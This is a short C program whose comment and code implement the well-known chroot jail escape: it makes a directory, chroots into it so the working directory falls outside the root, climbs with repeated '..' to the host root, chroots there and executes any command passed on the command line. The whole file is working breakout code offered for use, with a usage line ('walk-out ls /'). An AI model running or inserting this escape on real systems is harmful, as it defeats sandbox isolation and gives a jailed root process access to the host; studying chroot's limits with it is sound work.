// The way out of a chroot(2) that every root knows: a second one leaves the working directory outside
// of the root, and from there ".." leads up to the host's. Then do there what is asked for:
// walk-out ls /
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    (void)mkdir("x", 0755);
    if (argc < 2 || chroot("x") == -1)
        return 1;
    for (int i = 0; i < 100; i++)
        (void)chdir("..");
    if (chroot(".") == 0)
        execvp(argv[1], argv + 1);
    return 1;
}
